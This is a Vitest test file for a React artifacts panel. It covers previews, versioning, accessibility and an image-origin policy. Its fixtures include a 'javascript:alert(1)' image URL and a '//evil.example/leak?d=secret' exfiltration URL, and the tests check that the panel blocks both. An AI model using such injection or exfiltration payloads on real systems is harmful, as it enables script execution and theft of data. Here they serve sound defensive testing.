import { beforeAll, describe, expect, it } from "vitest";
import { act, fireEvent, screen, within } from "@testing-library/react";
import { EventType, type BaseEvent } from "@ag-ui/core";
import { ArtifactsPanel } from "../../src/panels";
import { preloadMarkdown } from "../../src/components";
import { foldEvents } from "../../src/core/fold";
import { expectNoAxeViolations, renderKit, storeWith } from "./support";

const artifact = (value: object): BaseEvent => ({ type: EventType.CUSTOM, name: "parley.artifact", value });

describe("ArtifactsPanel", () => {
  // The renderer loads on first use (LazyMarkdown.test.tsx covers the plain text before it).
  beforeAll(() => preloadMarkdown());

  it("says there are none yet", async () => {
    const { container } = renderKit(<ArtifactsPanel />, storeWith([]));
    expect(await screen.findByRole("region", { name: "Artifacts" })).toHaveAttribute("data-state", "empty");
    await expectNoAxeViolations(container);
  });

  it("previews each kind, follows new versions, and lets the person pick an older one", async () => {
    const store = storeWith([
      artifact({ id: "report", title: "Weekly report", kind: "markdown", content: "# Sales\n\nUp **12%**.", messageId: "m1" }),
      artifact({ id: "query", title: "Query", kind: "code", content: "SELECT 1;", language: "sql" }),
      artifact({ id: "chart", title: "Sales chart", kind: "image", url: "https://example.com/chart.png" }),
      artifact({ id: "evil", title: "Evil", kind: "image", url: "javascript:alert(1)" }),
    ]);
    const { container } = renderKit(<ArtifactsPanel />, store);
    await screen.findByRole("region", { name: "Artifacts" });
    const item = (id: string) => within(container.querySelector<HTMLElement>(`[data-artifact-id="${id}"]`)!);
    expect(item("report").getByRole("heading", { name: "Sales" })).toBeInTheDocument();
    // A scrolling preview is reached by keyboard, under the artifact's name.
    expect(item("query").getByRole("group", { name: "Query" })).toHaveAttribute("tabindex", "0");
    expect(item("query").getByText("SELECT 1;").tagName).toBe("PRE");
    // Another site's image waits for the person (it would load with no click): the button names the host.
    expect(item("chart").queryByRole("img")).toBeNull();
    fireEvent.click(item("chart").getByRole("button", { name: /^Load image from example\.com/ }));
    expect(item("chart").getByRole("img", { name: "Sales chart" })).toHaveAttribute("src", "https://example.com/chart.png");
    expect(item("evil").queryByRole("img")).toBeNull();
    expect(item("evil").queryByRole("button", { name: /Load image/ })).toBeNull();
    expect(item("report").getByRole("button", { name: "Show the message" })).toBeInTheDocument();
    await expectNoAxeViolations(container);

    act(() => store.setState((s) => ({ thread: foldEvents(s.thread, [artifact({ id: "report", title: "Weekly report", kind: "markdown", content: "# Sales, revised", messageId: "m2" })]) })));
    expect(item("report").getByText("v2 of 2")).toBeInTheDocument();
    expect(item("report").getByRole("heading", { name: "Sales, revised" })).toBeInTheDocument();
    fireEvent.change(item("report").getByLabelText("Version"), { target: { value: "1" } });
    expect(item("report").getByText("v1 of 2")).toBeInTheDocument();
    expect(item("report").getByRole("heading", { name: "Sales" })).toBeInTheDocument();
  });

  it("loads images at once from the origins the app allows, and never from //other-host", async () => {
    const store = storeWith([
      artifact({ id: "cdn", title: "From the CDN", kind: "image", url: "https://cdn.example/chart.png" }),
      artifact({ id: "leak", title: "Leak", kind: "image", url: "//evil.example/leak?d=secret" }),
    ]);
    const { container } = renderKit(<ArtifactsPanel />, store, { urlPolicy: { imageOrigins: ["https://cdn.example"] } });
    await screen.findByRole("region", { name: "Artifacts" });
    const item = (id: string) => within(container.querySelector<HTMLElement>(`[data-artifact-id="${id}"]`)!);
    expect(item("cdn").getByRole("img", { name: "From the CDN" })).toHaveAttribute("src", "https://cdn.example/chart.png");
    expect(item("leak").queryByRole("img")).toBeNull();
    expect(item("leak").getByRole("button", { name: /^Load image from evil\.example/ })).toBeInTheDocument();
    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
    await expectNoAxeViolations(container);
  });

  it("says when announcements could not be read", async () => {
    renderKit(<ArtifactsPanel />, storeWith([artifact({ title: "no id" })]), { locale: "zh-CN" });
    expect(await screen.findByRole("alert")).toHaveTextContent("有 1 条产出物通知无法读取。");
  });
});
